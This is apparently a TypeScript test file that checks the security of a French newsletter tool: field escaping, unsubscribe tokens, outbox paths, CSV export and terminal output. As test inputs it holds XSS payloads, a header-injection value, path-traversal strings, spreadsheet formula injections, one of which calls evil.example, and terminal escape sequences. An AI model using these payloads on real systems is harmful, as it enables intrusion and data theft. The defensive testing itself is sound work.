import { mkdtemp, readdir, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import type { DatabaseSync } from "node:sqlite";
import { type DefaultTreeAdapterTypes, parse } from "parse5";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { type Config, parseConfig } from "../../src/config/index.ts";
import { printable } from "../../src/core/terminal.ts";
import { build } from "../../src/pipeline/index.ts";
import { sendIssue } from "../../src/send/index.ts";
import { exportList, importList } from "../../src/send/lists.ts";
import { buildMessage, type Compiled } from "../../src/send/message.ts";
import { listSubscribers, openDatabase } from "../../src/send/store.ts";
import { verifyUnsubscribeToken } from "../../src/send/token.ts";
import { createTransport, outboxFile } from "../../src/send/transports.ts";
import { lettre as command } from "../cli.ts";
import { fixtureProject, makeProject, put, read } from "../helpers.ts";
import { startSmtp } from "./smtp.ts";

const SECRET = "hardening-b1-secret-of-32-bytes-at-least";

const CONFIG = `site:
  name: DataLab Normandie
  url: https://lettre.example.org
sender:
  name: DataLab Normandie
  address: lettre@datalab.example.org
sending:
  unsubscribeUrl: https://lettre.example.org/desinscription
  connections: 2
  rate: 100
`;
const config = parseConfig(CONFIG).value as Config;

/** An issue written by an editor, and one line written by an attacker who can edit it. */
const ISSUE = `---
title: "Bonjour {{subscriber.firstName|l'équipe}} & co"
date: 2026-01-15
---
Bonjour {{subscriber.firstName|Madame, Monsieur}} et {{subscriber.lastName|l'équipe « DataLab »}} !

<span title="{{subscriber.firstName|">x}}" onmouseover="alert(1)">survol</span>

Champs hérités : [{{subscriber.constructor}}] [{{subscriber.toString|repli}}] [{{subscriber.\\_\\_proto\\_\\_|proto}}] [{{subscriber.hasOwnProperty}}]
`;

async function compiledIssue(): Promise<Compiled> {
  const root = await makeProject({ "newsletters/2026-perso.md": ISSUE });
  const built = await build({ root, write: false, drafts: true });
  const found = built.emails.find((e) => e.issue.slug === "2026-perso");
  if (!found) throw new Error(JSON.stringify(built.diagnostics));
  return {
    slug: "2026-perso",
    subject: found.issue.data.title,
    html: found.email.html,
    text: found.email.text,
  };
}

type Element = DefaultTreeAdapterTypes.Element;
/** Every element of an HTML document, as a browser would build it. */
function elements(html: string): Element[] {
  const all: Element[] = [];
  const walk = (node: DefaultTreeAdapterTypes.Node) => {
    if ("tagName" in node) all.push(node);
    if ("childNodes" in node) for (const child of node.childNodes) walk(child);
  };
  walk(parse(html));
  return all;
}
const handlers = (html: string) =>
  elements(html).flatMap((el) =>
    el.attrs.filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`),
  );
const textOf = (el: DefaultTreeAdapterTypes.Node): string =>
  "value" in el && el.nodeName === "#text"
    ? el.value
    : "childNodes" in el
      ? el.childNodes.map(textOf).join("")
      : "";
/** Paragraphs' text, French typography's no-break spaces shown as spaces. */
const paragraphs = (html: string) =>
  elements(html)
    .filter((el) => el.tagName === "p")
    .map((p) => textOf(p).replace(/[\u00a0\u202f]/g, " "));
const attribute = (html: string, tag: string, name: string) =>
  elements(html)
    .filter((el) => el.tagName === tag)
    .flatMap((el) => el.attrs.filter((a) => a.name === name).map((a) => a.value));

let root: string;
let db: DatabaseSync;
const stops: (() => Promise<void>)[] = [];
beforeEach(async () => {
  root = await mkdtemp(path.join(tmpdir(), "lettre-b1-"));
  db = openDatabase(root);
});
afterEach(async () => {
  for (const stop of stops.splice(0).reverse()) await stop();
  db.close();
  await rm(root, { recursive: true, force: true });
});

async function smtp() {
  const server = await startSmtp();
  stops.push(server.close);
  const transport = createTransport(server.url, { connections: 2, rate: 100 });
  stops.push(() => transport.close());
  return { server, transport };
}

/** The real command, as an editor runs it (no terminal), with `env` over the test's. */
const lettre = (cwd: string, args: string[], env: NodeJS.ProcessEnv = {}) =>
  command(cwd, args, { env: { LETTRE_UNSUBSCRIBE_SECRET: SECRET, ...env } }).done;

describe("personalisation never makes markup", () => {
  it("fills a field only inside one text node or attribute value, escaped (buildMessage)", async () => {
    const compiled = await compiledIssue();
    // The sanitised build kept the attribute's text and the span's text apart.
    expect(handlers(compiled.html)).toEqual([]);
    const message = (fields: Record<string, string>) =>
      buildMessage(
        compiled,
        { email: "anne@exemple.fr", address: "anne@exemple.fr", fields },
        "partenaires",
        config,
        SECRET,
      );

    const anne = message({ firstName: "Anne" });
    expect(handlers(anne.html)).toEqual([]);
    expect(paragraphs(anne.html)).toContain("Bonjour Anne et l'équipe « DataLab » !");
    // The placeholder that crosses the tag is left as the build wrote it: text, not markup.
    expect(attribute(anne.html, "span", "title")).toEqual(["{{subscriber.firstName|"]);
    expect(anne.subject).toBe("Bonjour Anne & co");

    // Fallbacks written with accents, apostrophes and « », decoded then escaped again.
    const nobody = message({});
    expect(handlers(nobody.html)).toEqual([]);
    expect(paragraphs(nobody.html)).toContain("Bonjour Madame, Monsieur et l'équipe « DataLab » !");
    expect(
      elements(nobody.html)
        .find((el) => el.tagName === "h1")
        ?.childNodes.map(textOf),
    ).toEqual(["Bonjour l'équipe & co"]);
    expect(attribute(nobody.html, "div", "aria-label")).toContain("Bonjour l'équipe & co");
    expect(nobody.subject).toBe("Bonjour l'équipe & co");
    expect(nobody.text).toContain("Bonjour Madame, Monsieur et");

    // Only the subscriber's own fields: inherited names give the fallback, and never throw.
    const inherited = paragraphs(nobody.html).find((p) => p.startsWith("Champs hérités"));
    expect(inherited).toBe("Champs hérités : [] [repli] [proto] []");
    const own = message({ constructor: "C", toString: "T" } as Record<string, string>);
    expect(paragraphs(own.html)).toContain("Champs hérités : [C] [T] [proto] []");

    // A hostile value is text wherever it goes: in a paragraph, an attribute, the subject.
    const hostile = `"><img src=x onerror=alert(1)>'`;
    const attack = message({ firstName: `${hostile}\r\nBcc: x@y.z`, lastName: "Durand" });
    expect(handlers(attack.html)).toEqual([]);
    expect(elements(attack.html).filter((el) => el.tagName === "img")).toEqual([]);
    expect(paragraphs(attack.html)).toContain(`Bonjour ${hostile}\nBcc: x@y.z et Durand !`);
    expect(attribute(attack.html, "div", "aria-label")).toContain(
      `Bonjour ${hostile}\nBcc: x@y.z & co`,
    );
    // The subject stays one line: a field cannot add a header.
    expect(attack.subject).toBe(`Bonjour ${hostile} Bcc: x@y.z & co`);
  });

  it("sends no live event handler through a real SMTP server", async () => {
    const compiled = await compiledIssue();
    importList(
      db,
      "partenaires",
      `email;prénom\nanne@exemple.fr;Anne\nbob@exemple.fr;\nclaire@exemple.fr;"""><svg onload=alert(1)>"\n`,
      "p.csv",
    );
    const { server, transport } = await smtp();
    await sendIssue(db, { compiled, list: "partenaires", config, transport, secret: SECRET });
    expect(server.received).toHaveLength(3);
    for (const { to, mail } of server.received) {
      const html = String(mail.html);
      expect(handlers(html), to).toEqual([]);
      expect(elements(html).filter((el) => el.tagName === "svg")).toEqual([]);
    }
    const byTo = (to: string) => server.received.find((r) => r.to === to)?.mail;
    expect(paragraphs(String(byTo("anne@exemple.fr")?.html))).toContain(
      "Bonjour Anne et l'équipe « DataLab » !",
    );
    expect(byTo("anne@exemple.fr")?.subject).toBe("Bonjour Anne & co");
    expect(byTo("bob@exemple.fr")?.subject).toBe("Bonjour l'équipe & co");
    expect(paragraphs(String(byTo("claire@exemple.fr")?.html))).toContain(
      `Bonjour "><svg onload=alert(1)> et l'équipe « DataLab » !`,
    );
  });
});

describe("unsubscribe links and their secret", () => {
  it("carries an opaque token: the address is nowhere in the link or the header", async () => {
    importList(db, "partenaires", "email\nanne.martin@exemple.fr\n", "p.csv");
    const { server, transport } = await smtp();
    const compiled = {
      slug: "2026-s1",
      subject: "Lettre",
      html: '<p>Bonjour</p><a href="{{unsubscribeUrl}}">Se désinscrire</a>',
      text: "Se désinscrire : {{unsubscribeUrl}}\n",
    };
    await sendIssue(db, { compiled, list: "partenaires", config, transport, secret: SECRET });
    const received = server.received[0];
    const header = (received?.raw ?? "")
      .replace(/\r?\n[ \t]+/g, " ")
      .split(/\r?\n/)
      .find((line) => line.startsWith("List-Unsubscribe:"));
    const href = attribute(String(received?.mail.html), "a", "href")[0] ?? "";
    for (const shown of [header, href, received?.mail.text]) {
      expect(shown).toBeTruthy();
      for (const secretPart of ["anne", "martin", "%40", "email=", "list="]) {
        expect(shown).not.toContain(secretPart);
      }
    }
    const url = new URL(href);
    expect(`${url.origin}${url.pathname}`).toBe("https://lettre.example.org/desinscription");
    expect([...url.searchParams.keys()]).toEqual(["t"]);
    expect(verifyUnsubscribeToken(SECRET, url.searchParams.get("t"))).toEqual({
      list: "partenaires",
      email: "anne.martin@exemple.fr",
    });
    expect(header).toContain(`<${href}>`);
    expect(header).toContain(`?subject=unsubscribe%20${url.searchParams.get("t")}>`);
  });

  it("lettre send refuses a secret under 32 bytes, and a --test over SMTP without one", async () => {
    const project = await fixtureProject("archive");
    await put(project, "abonnes.csv", "email\nmarie@exemple.fr\n");
    expect((await lettre(project, ["list", "import", "partenaires", "abonnes.csv"])).code).toBe(0);

    const short = await lettre(project, ["send", "2025-s2", "--list", "partenaires", "--yes"], {
      LETTRE_UNSUBSCRIBE_SECRET: "x".repeat(31),
    });
    expect(short.code).toBe(1);
    expect(short.stderr).toContain("LETTRE_UNSUBSCRIBE_SECRET est trop courte (31 octets)");
    expect(short.stderr).toContain("openssl rand -base64 32");
    // In the language the editor asked for, not the config's.
    const english = await lettre(
      project,
      ["send", "2025-s2", "--list", "partenaires", "--yes", "--lang", "en"],
      { LETTRE_UNSUBSCRIBE_SECRET: "x".repeat(31) },
    );
    expect(english.stderr).toContain("LETTRE_UNSUBSCRIBE_SECRET is too short (31 bytes)");
    // Whatever the transport: the outbox too, a --test copy too.
    const shortTest = await lettre(project, ["send", "2025-s2", "--test", "moi@exemple.fr"], {
      LETTRE_UNSUBSCRIBE_SECRET: "x".repeat(31),
    });
    expect(shortTest.code).toBe(1);
    expect(shortTest.stderr).toContain("LETTRE_UNSUBSCRIBE_SECRET est trop courte (31 octets)");
    await expect(readdir(path.join(project, "outbox"))).rejects.toThrow();

    const server = await startSmtp();
    stops.push(server.close);
    const test = await lettre(
      project,
      ["send", "2025-s2", "--test", "moi@exemple.fr", "--transport", server.url],
      { LETTRE_UNSUBSCRIBE_SECRET: undefined },
    );
    expect(test.code).toBe(1);
    expect(test.stderr).toContain("LETTRE_UNSUBSCRIBE_SECRET n'est pas défini");
    expect(test.stderr).toContain("openssl rand -base64 32");
    expect(server.received).toEqual([]);

    // With the real secret (32 bytes is enough), the same test copy goes, signed.
    const signed = await lettre(
      project,
      ["send", "2025-s2", "--test", "moi@exemple.fr", "--transport", server.url],
      { LETTRE_UNSUBSCRIBE_SECRET: "k3Vq9ZrT1xW7nB4yM6pD8cF2hJ5gL0sA" },
    );
    expect(signed.code).toBe(0);
    expect(server.received).toHaveLength(1);
    expect(server.received[0]?.raw).not.toMatch(/^X-Lettre-Outbox:/im);
  }, 90_000);

  it("writes outbox previews without a secret, marked as such", async () => {
    const project = await fixtureProject("archive");
    const preview = await lettre(project, ["send", "2025-s2", "--test", "moi@exemple.fr"], {
      LETTRE_UNSUBSCRIBE_SECRET: undefined,
    });
    expect(preview.code).toBe(0);
    expect(preview.stderr).toContain("les fichiers de l'outbox sont des aperçus");
    const [file] = await readdir(path.join(project, "outbox"));
    const eml = await read(project, `outbox/${file}`);
    expect(eml).toMatch(/^X-Lettre-Outbox: unsigned-preview\r$/m);
  }, 90_000);

  it("a preview of a whole list records nothing: the real send afterwards reaches everyone", async () => {
    const project = await fixtureProject("archive");
    await put(project, "abonnes.csv", "email\nmarie@exemple.fr\npaul@exemple.fr\n");
    expect((await lettre(project, ["list", "import", "partenaires", "abonnes.csv"])).code).toBe(0);
    const preview = await lettre(project, ["send", "2025-s2", "--list", "partenaires", "--yes"], {
      LETTRE_UNSUBSCRIBE_SECRET: undefined,
    });
    expect(preview.code, preview.stderr).toBe(0);
    expect(preview.stdout).toContain("aperçu : 2 message(s) écrit(s) dans outbox/");
    expect(await readdir(path.join(project, "outbox"))).toHaveLength(2);
    expect((await lettre(project, ["send", "status", "2025-s2"])).stdout).toContain(
      "n'a encore été envoyée à aucune liste",
    );

    const server = await startSmtp();
    stops.push(server.close);
    const real = await lettre(project, [
      "send",
      "2025-s2",
      "--list",
      "partenaires",
      "--yes",
      "--transport",
      server.url,
    ]);
    expect(real.code, real.stderr).toBe(0);
    expect(server.received.map((r) => r.to).sort()).toEqual([
      "marie@exemple.fr",
      "paul@exemple.fr",
    ]);
  }, 90_000);
});

describe("outbox file names and replacement strings", () => {
  it("keeps every outbox file in the outbox, whatever the sender's domain", async () => {
    // The config refuses a path as a domain…
    const sneaky = parseConfig(
      CONFIG.replace("lettre@datalab.example.org", "lettre@x/../../evil.x"),
    );
    expect(sneaky.diagnostics.map((d) => `${d.line}: ${d.field}: ${d.rule}`)).toEqual([
      "6: sender.address: email",
    ]);
    // …and the send stage does not rely on it.
    const valid = parseConfig(CONFIG).value as Config;
    const cfg = { ...valid, sender: { ...valid.sender, address: "lettre@x/../../evil.x" } };
    importList(db, "l", "email\na@exemple.fr\nb@exemple.fr\n", "l.csv");
    const outbox = path.join(root, "outbox");
    const transport = createTransport(`outbox:${outbox}`, { connections: 1, rate: 10 });
    const compiled = { slug: "2026-s1", subject: "S", html: "<p>{{unsubscribeUrl}}</p>", text: "" };
    await sendIssue(db, { compiled, list: "l", config: cfg, transport, secret: SECRET });
    const files = await readdir(outbox);
    expect(files).toHaveLength(2);
    expect(files.every((f) => /^2026-s1\.[0-9a-f]{24}@localhost\.eml$/.test(f))).toBe(true);
    expect((await readdir(root)).sort()).toEqual([".lettre", "outbox"]);
    const ids = db.prepare("SELECT message_id FROM journal").all() as { message_id: string }[];
    expect(ids.every((r) => r.message_id.endsWith("@localhost>"))).toBe(true);

    // Whatever Message-ID a caller gives, the file stays in the folder.
    for (const id of ["<../../x>", "<a/../../b>", "<..>", "<.hidden>", "</etc/passwd>", "<>"]) {
      expect(path.dirname(outboxFile(outbox, id))).toBe(outbox);
      expect(path.basename(outboxFile(outbox, id))).toMatch(/^[A-Za-z0-9_@-][\w.@-]*\.eml$/);
    }
    expect(path.basename(outboxFile(outbox, `<${"a".repeat(400)}@x.fr>`)).length).toBeLessThan(255);
  });

  it("writes $& and $' of config and issue values verbatim", async () => {
    const url = "https://lettre.example.org/d$&x/$'y";
    const cfg = parseConfig(
      CONFIG.replace("https://lettre.example.org/desinscription", () => `"${url}"`),
    ).value as Config;
    const message = buildMessage(
      {
        slug: "s",
        subject: "S",
        html: '<a href="{{unsubscribeUrl}}">x</a>',
        text: "lien : {{unsubscribeUrl}} fin",
      },
      { email: "a@exemple.fr", address: "a@exemple.fr", fields: {} },
      "l",
      cfg,
      SECRET,
    );
    const href = attribute(message.html, "a", "href")[0] ?? "";
    expect(href.startsWith(`${url}?t=`)).toBe(true);
    expect(message.text).toMatch(
      /^lien : https:\/\/lettre\.example\.org\/d\$&x\/\$'y\?t=[\w-]+ fin$/,
    );

    // The web archive: the web copy of the email, the feeds and the calendar.
    const site = await makeProject({
      "newsletters/2026-s1.md": `---
title: Lettre
date: 2026-01-15
sections:
  - type: event
    title: "Prix $' et $& spécial"
    date: 2026-02-01
---
Une note[^1].

[^1]: La note.
`,
    });
    const yaml = await read(site, "lettre.config.yaml");
    await put(
      site,
      "lettre.config.yaml",
      yaml
        .replace(
          "url: https://lettre.datalab-normandie.fr",
          () => "url: https://lettre.example.org/a$$b",
        )
        .replace(
          "address: lettre@datalab-normandie.fr",
          () => "address: lettre$&x@datalab-normandie.fr",
        ),
    );
    const built = await build({ root: site, write: true });
    expect(built.diagnostics.filter((d) => d.severity === "error")).toEqual([]);
    const web = await read(site, "dist/archive/2026-s1/email.html");
    // (The web copy is filled as the send fills it: the link is escaped in its attribute.)
    expect(attribute(web, "a", "href")).toContain(
      "mailto:lettre$&x@datalab-normandie.fr?subject=Se%20d%C3%A9sinscrire",
    );
    expect(web).not.toContain("{{unsubscribeUrl}}");
    const feed = JSON.parse(await read(site, "dist/archive/feed.json")) as {
      items: { content_html: string }[];
    };
    expect(feed.items[0]?.content_html).toContain(
      'href="https://lettre.example.org/a$$b/2026-s1/#',
    );
    const ics = (await read(site, "dist/archive/events.ics")).replace(/\r\n[ \t]/g, "");
    expect(ics).toContain("SUMMARY:Prix $' et $& spécial");
    expect(ics.match(/END:VCALENDAR/g)).toHaveLength(1);
  });
});

describe("CSV export and terminal output", () => {
  it("exports no cell a spreadsheet would run as a formula, and imports the export unchanged", () => {
    const names = [
      '=HYPERLINK("https://evil.example/?x="&A1;"Cliquez")',
      "+33 6 12 34 56 78",
      "-2+3",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      "Marie",
      "-",
      "Dupont,=1+1",
      "Durand,\t+cmd|' /C calc'!A0",
    ];
    const csv = `email;prénom\n${names.map((n, i) => `p${i}@exemple.fr;"${n.replace(/"/g, '""')}"`).join("\n")}\n=1+1@exemple.fr;Formule\n`;
    const report = importList(db, "partenaires", csv, "p.csv");
    expect(report.rejected).toEqual([]);
    const exported = exportList(db, "partenaires");

    // Each cell, as a spreadsheet splits the file.
    const cells = exported
      .replace(/^\uFEFF/, "")
      .trimEnd()
      .split("\r\n")
      .flatMap((line) => line.match(/("([^"]|"")*"|[^;]*)(;|$)/g) ?? [])
      .map((cell) =>
        cell
          .replace(/;$/, "")
          .replace(/^"(.*)"$/s, "$1")
          .replace(/""/g, '"'),
      )
      .filter((cell) => cell !== "");
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    // Nor where a spreadsheet set to commas (or tabs) would start a cell.
    const elsewhere = exported.split(/[,\t;\r\n]/).map((cell) => cell.replace(/^[" ]+/, ""));
    expect(elsewhere.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
    expect(cells).toContain(`'${names[0]}`);
    expect(cells).toContain("'+33 6 12 34 56 78");
    expect(cells).toContain("'=1+1@exemple.fr");
    expect(cells).toContain("Marie");

    importList(db, "copie", exported, "export.csv");
    const fieldsOf = (list: string) =>
      listSubscribers(db, list).map((s) => [s.address, s.fields.firstName]);
    expect(fieldsOf("copie")).toEqual(fieldsOf("partenaires"));
    expect(fieldsOf("copie")).toContainEqual(["=1+1@exemple.fr", "Formule"]);
    expect(fieldsOf("copie")).toContainEqual(["p0@exemple.fr", names[0]]);
  });

  it("lettre list show prints control characters of names as visible signs, never obeyed", async () => {
    const project = await makeProject();
    await put(
      project,
      "abonnes.csv",
      'email;prénom;nom\neve@exemple.fr;"\x1b]0;pwned\x07Ève";\x1b[2JMartin\nzoe@exemple.fr;Zoé\u009b31m;\u202eLeroy\n\x1b[2Jx@exemple.fr;X;Y\n',
    );
    const imported = await lettre(project, ["list", "import", "partenaires", "abonnes.csv"]);
    expect(imported.code).toBe(0);
    expect(imported.stderr).toContain("abonnes.csv:4: « ␛[2Jx@exemple.fr »");
    const shown = await lettre(project, ["list", "show", "partenaires"]);
    expect(shown.code).toBe(0);
    const output = shown.stdout + shown.stderr + imported.stdout + imported.stderr;
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what must not be printed
    expect(output).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/);
    expect(shown.stdout).toContain("eve@exemple.fr  (␛]0;pwned␇Ève, ␛[2JMartin)");
    expect(shown.stdout).toContain("zoe@exemple.fr  (Zoé\\u009b31m, \\u202eLeroy)");
    // An export through a pipe too (exact to a file: see list-files.test.ts).
    const exported = await lettre(project, ["list", "export", "partenaires"]);
    expect(exported.stdout).toContain('"␛]0;pwned␇Ève"');
    expect(exported.stdout).not.toContain("\x1b");
  }, 90_000);

  it("printable() shows C0, DEL, C1 and bidi overrides, and keeps the rest", () => {
    expect(printable("a\x1b[2Jb\x07\x7f\t\n\u0085\u202e")).toBe("a␛[2Jb␇␡␉␊\\u0085\\u202e");
    expect(printable("Zoé « Ève » l'équipe 12 €")).toBe("Zoé « Ève » l'équipe 12 €");
  });
});
